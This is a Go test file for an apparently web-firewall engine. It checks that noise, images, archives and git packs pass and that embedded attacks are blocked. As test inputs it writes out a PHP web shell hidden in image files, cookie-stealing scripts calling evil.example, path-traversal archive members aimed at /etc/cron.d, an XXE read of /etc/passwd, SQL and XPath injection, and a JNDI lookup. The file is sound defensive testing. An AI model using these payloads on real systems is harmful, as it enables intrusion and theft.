package engine

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"encoding/base64"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"math"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/gabionhq/gabion/engine/rule"
)

// wrappings are the ways in which data gets into a request.
func wrappings(data []byte) map[string]request {
	raw := request{method: "POST", target: "/blobs", body: string(data), fields: []string{"Content-Type", "application/octet-stream"}}
	file := fileUpload("data.bin", "application/octet-stream", string(data))
	object := post("application/json", fmt.Sprintf(`{"name":"data","content":%q}`, base64.StdEncoding.EncodeToString(data)))
	coded := raw
	coded.body = zipped(string(data))
	coded.fields = []string{"Content-Type", "application/octet-stream", "Content-Encoding", "gzip"}
	return map[string]request{"body": raw, "file": file, "base64": object, "gzip": coded}
}

func fileUpload(name, contentType, content string) request {
	return post("multipart/form-data; boundary="+sep, "--"+sep+line+`Content-Disposition: form-data; name="f"; filename="`+name+`"`+line+
		"Content-Type: "+contentType+line+line+content+line+"--"+sep+"--"+line)
}

// audible is the weight from which on a finding in data is one too many.
const audible = 0.2

// TestNothingIsFoundInNoise sends random bytes of all lengths.
func TestNothingIsFoundInNoise(t *testing.T) {
	e := New(Options{})
	rnd := rand.New(rand.NewPCG(7, 11))
	size, pieces := 8<<20, 0
	if testing.Short() {
		size = 1 << 20
	}
	for sent := 0; sent < size; pieces++ {
		data := make([]byte, int(100*math.Pow(655, rnd.Float64()))) // up to 64 KB, as many short ones as long ones
		for i := range data {
			data[i] = byte(rnd.Uint32())
		}
		sent += len(data)
		for way, r := range wrappings(data) {
			if v, rep := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); v.Decision != Pass || len(loud(rep)) > 0 {
				t.Errorf("piece %d of %d bytes as %s: score %.2f, %q", pieces, len(data), way, v.Score, loud(rep))
			}
		}
	}
	t.Logf("%d pieces", pieces)
}

// loud returns what was found beyond noise.
func loud(rep *Report) (found []string) {
	for _, f := range rep.Findings {
		if f.Weight >= audible {
			found = append(found, fmt.Sprintf("%s %.2f at %s: %s %.80q", f.Class, f.Weight, f.Point, f.Reason, f.Value))
		}
	}
	return found
}

// TestNothingIsFoundInFiles sends what programs made.
func TestNothingIsFoundInFiles(t *testing.T) {
	e := New(Options{})
	for name, data := range map[string][]byte{"picture": picture(t), "archive": archive(t), "pack": pack(t)} {
		for way, r := range wrappings(data) {
			if v, rep := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); v.Decision != Pass || len(loud(rep)) > 0 {
				t.Errorf("%s of %d bytes as %s: score %.2f, %q", name, len(data), way, v.Score, loud(rep))
			}
		}
	}
}

// picture returns a PNG that does not compress.
func picture(t *testing.T) []byte {
	rnd := rand.New(rand.NewPCG(1, 2))
	m := image.NewRGBA(image.Rect(0, 0, 200, 150))
	for y := range 150 {
		for x := range 200 {
			m.Set(x, y, color.RGBA{byte(rnd.Uint32()), byte(rnd.Uint32()), byte(x), 255})
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, m); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// archive returns a zip archive of the sources of the package.
func archive(t *testing.T) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	names, err := filepath.Glob("*.go")
	if err != nil || len(names) == 0 {
		t.Fatal(names, err)
	}
	for _, name := range names {
		if strings.HasSuffix(name, "_test.go") {
			continue // they hold attacks
		}
		text, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		f, err := w.Create("src/" + name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write(text); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// pack returns the pack that git sends of a commit with data in it.
func pack(t *testing.T) []byte {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip(err)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "picture.png"), picture(t), 0o600); err != nil {
		t.Fatal(err)
	}
	run := func(in string, args ...string) []byte {
		c := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=A", "-c", "user.email=a@example.com", "-c", "commit.gpgsign=false"}, args...)...)
		c.Stdin = strings.NewReader(in)
		c.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_SYSTEM=/dev/null")
		out, err := c.Output()
		if err != nil {
			t.Fatalf("git %v: %v", args, err)
		}
		return out
	}
	run("", "init", "-q")
	run("", "add", ".")
	run("", "commit", "-q", "-m", "Add a picture")
	return run("HEAD\n", "pack-objects", "--revs", "--stdout", "-q")
}

// TestAttacksInData puts attacks into data.
func TestAttacksInData(t *testing.T) {
	e := New(Options{})
	png := picture(t)
	jpeg := "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xfe\x00\x40"
	f := func(name, fileName, contentType, content string) {
		t.Helper()
		r := fileUpload(fileName, contentType, content)
		if v, rep := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); v.Decision != Block {
			t.Errorf("%s: passes with %.2f, %q", name, v.Score, loud(rep))
		}
	}
	shell := `<?php system($_GET['c']); ?>`
	f("PHP in the comment of a JPEG", "a.jpg", "image/jpeg", jpeg+shell+string(png[100:60000]))
	f("PHP in a PNG", "a.png", "image/png", string(png[:3000])+shell+string(png[3000:50000]))
	f("short PHP in a PNG", "a.png", "image/png", string(png[:3000])+"<?=`$_GET[0]`?>"+string(png[3000:50000]))
	f("PHP behind a PNG", "a.png", "image/png", string(png)+shell)
	f("script behind a PNG", "a.png", "image/png", string(png)+`<script>fetch("//evil.example/?"+document.cookie)</script>`)
	f("script in an SVG", "a.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/?"+document.cookie)</script></svg>`)
	f("PHP behind the head of a GIF", "a.gif", "image/gif", "GIF89a;"+shell)
	for _, attack := range hidden {
		for _, around := range []string{"\x01", "\x00\x01\x02", "\x80\xff", "\x7f\xfe\x03\x80"} {
			r := request{method: "GET", target: "/items?q=" + percent(around+attack+around)}
			if v, _ := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); v.Decision != Block {
				t.Errorf("%q in %q passes with %.2f", attack, around, v.Score)
			}
		}
	}
}

// TestArchives sends archives with harmless and harmful members.
func TestArchives(t *testing.T) {
	e := New(Options{})
	shell := `<?php system($_GET['c']); ?>`
	listing := "#!/bin/sh\nset -e\nsudo apt-get update && sudo apt-get install -y nginx\ncurl -fsS http://localhost:8080/healthz | jq '.status'\n"
	long := strings.Repeat("// A comment of some length.\nfunc f() {}\n", 2500)
	f := func(name, content string, block bool) {
		t.Helper()
		for kind, data := range map[string][]byte{
			"stored": zipOf(t, zip.Store, name, content), "deflated": zipOf(t, zip.Deflate, name, content),
			"behind": append(picture(t)[:40000:40000], zipOf(t, zip.Deflate, name, content)...),
			"last":   zipOf(t, zip.Store, "a.go", long, name, content), "tar": tarOf(t, name, content), "tar last": tarOf(t, "a.go", long, name, content),
			"tar.gz": []byte(zipped(string(tarOf(t, name, content)))),
		} {
			for way, r := range wrappings(data) {
				if way == "base64" && len(data) > 48<<10 {
					continue // each window of it is decoded by itself
				}
				v, rep := inspect(e, nil, Env{Mode: rule.Block}, &r, whole)
				if (v.Decision == Block) != block {
					t.Errorf("%s in %s as %s: score %.2f, %q", name, kind, way, v.Score, loud(rep))
				}
			}
		}
	}
	f("run.sh", listing, false)
	f("src/index.php", "<?php\nnamespace App;\nclass Index { public function get() { return 1; } }\n", false)
	f("notes/../../../../etc/cron.d/x", "* * * * * root true\n", true)
	f("../../etc/cron.d/x", "* * * * * root true\n", true)
	f(`..\..\windows\win.ini`, "a", true)
	f("images/a.php", shell, true)
}

// TestSAML sends messages of SAML as its redirect binding does, and as its POST
// binding does.
func TestSAML(t *testing.T) {
	e := New(Options{})
	issuer := "https://sp.example/metadata"
	message := `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ` +
		`ID="_809707f0030a5d00620c9d9df97f627afe9dcc24" Version="2.0" IssueInstant="2026-07-16T23:52:45Z" ` +
		`AssertionConsumerServiceURL="https://sp.example/acs"><saml:Issuer>` + issuer + `</saml:Issuer></samlp:AuthnRequest>`
	external := `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + strings.Replace(message, issuer, "&x;", 1)
	injected := strings.Replace(message, issuer, "' or 1=1 or name()='", 1)
	for _, c := range []struct {
		name, message, point string
	}{
		{"harmless", message, ""},
		{"external entity", external, "dtd"},
		{"XPath", injected, `"saml:Issuer"`},
	} {
		encode := func(v string) string { return percent(base64.StdEncoding.EncodeToString([]byte(v))) }
		for _, way := range []struct {
			prefix string
			request
		}{
			{"get.SAMLRequest.base64.gzip.xml", request{method: "GET", target: "/sso?RelayState=a&SAMLRequest=" + encode(deflated(c.message, false))}},
			{"post.form.SAMLResponse.base64.xml", post("application/x-www-form-urlencoded", "SAMLResponse="+encode(c.message)+"&RelayState=a")},
		} {
			v, rep := inspect(e, nil, Env{Mode: rule.Block}, &way.request, whole)
			if (v.Decision == Block) != (c.point != "") {
				t.Errorf("%s, %s: score %.2f, %q", c.name, way.prefix, v.Score, loud(rep))
			}
			found := c.point == "" || slices.ContainsFunc(rep.Findings, func(f Finding) bool {
				return strings.HasPrefix(f.Point, way.prefix) && strings.Contains(f.Point, c.point)
			})
			if !found {
				t.Errorf("%s: nothing at %s...%s, %q", c.name, way.prefix, c.point, loud(rep))
			}
		}
	}
}

// TestBlankFiles sends what compresses a hundredfold and more without being a bomb:
// empty disks, blank pictures, sheets without cells, and what is small.
func TestBlankFiles(t *testing.T) {
	e := New(Options{})
	blank := strings.Repeat("\x00", 6<<20)
	page := `{"text":"` + strings.Repeat(" ", 60<<10) + `"}`
	sheet := strings.Repeat(`<row r="1"><c s="1"/></row>`, 200_000)
	var log strings.Builder // of 12 MB, which windows of the body cut
	for x := uint32(1); log.Len() < 12<<20; x = x*1664525 + 1013904223 {
		fmt.Fprintf(&log, "%d GET /items/%d 200 %d\n", x>>4, x>>12, x>>20)
	}
	json := func(fields ...string) request {
		return request{method: "POST", target: "/items", fields: append([]string{"Content-Type", "application/json"}, fields...)}
	}
	coded := json("Content-Encoding", "gzip")
	coded.body = zipped(page)
	deflate := json("Content-Encoding", "deflate")
	deflate.body = deflated(page, true)
	value := json()
	value.body = `{"state":"` + base64.StdEncoding.EncodeToString([]byte(zipped(page))) + `"}`
	for name, r := range map[string]request{
		"a blank page as gzip": coded, "as deflate": deflate, "in base64": value,
		"a blank picture":              fileUpload("a.zip", "application/zip", zipBomb(blank, false)),
		"a blank picture, size behind": fileUpload("a.zip", "application/zip", zipBomb(blank, true)),
		"a sheet":                      fileUpload("a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", zipBomb(sheet, true)),
		"a long log":                   fileUpload("a.zip", "application/zip", zipBomb(log.String(), false)),
		"a long log, size behind":      fileUpload("a.zip", "application/zip", zipBomb(log.String(), true)),
		"one small file":               fileUpload("a.tar.gz", "application/gzip", zipped(string(tarOf(t, "a", "1")))),
	} {
		if v, rep := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); v.Decision == Block {
			t.Errorf("%s: score %.2f, %q", name, v.Score, loud(rep))
		}
	}
}

func zipOf(t *testing.T, method uint16, members ...string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i < len(members); i += 2 {
		f, err := w.CreateHeader(&zip.FileHeader{Name: members[i], Method: method})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write([]byte(members[i+1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func tarOf(t *testing.T, members ...string) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for i := 0; i < len(members); i += 2 {
		if err := w.WriteHeader(&tar.Header{Name: members[i], Mode: 0o600, Size: int64(len(members[i+1]))}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(members[i+1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestCalendars sends notes on code, and attacks in the same places.
func TestCalendars(t *testing.T) {
	e := New(Options{})
	f := func(description string, block bool) {
		t.Helper()
		body := "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART;TZID=\"Europe/Berlin\":20260302T090000\r\nDESCRIPTION:" +
			folded(strings.NewReplacer("\\", `\\`, "\n", `\n`, ",", `\,`, ";", `\;`).Replace(description)) + "\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
		for _, contentType := range []string{"text/calendar", "application/octet-stream"} {
			r := request{method: "PUT", target: "/jane/work/1.ics", body: body, fields: []string{"Content-Type", contentType}}
			if v, rep := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); (v.Decision == Block) != block {
				t.Errorf("%q as %s: score %.2f, %q", description, contentType, v.Score, loud(rep))
			}
		}
	}
	f("# Release notes\n\nIt's out -- \"finally\", as O'Neill said (see [issue #42](https://example.com/issues/42?x=1&y=2)).\n\n```sql\nSELECT c.name, COUNT(*) AS orders\nFROM customers c\nGROUP BY c.name HAVING COUNT(*) > 3\nORDER BY orders DESC;\n```\n", false)
	f("<script>fetch('//evil.example/?' + document.cookie)</script>", true)
	f("' UNION SELECT login, password FROM users WHERE '1'='1", true)
	f("${jndi:ldap://evil.example/a}", true)
}

// folded breaks lines as RFC 5545, 3.1 has it.
func folded(s string) string {
	var b strings.Builder
	for len(s) > 60 {
		b.WriteString(s[:60] + "\r\n ")
		s = s[60:]
	}
	return b.String() + s
}
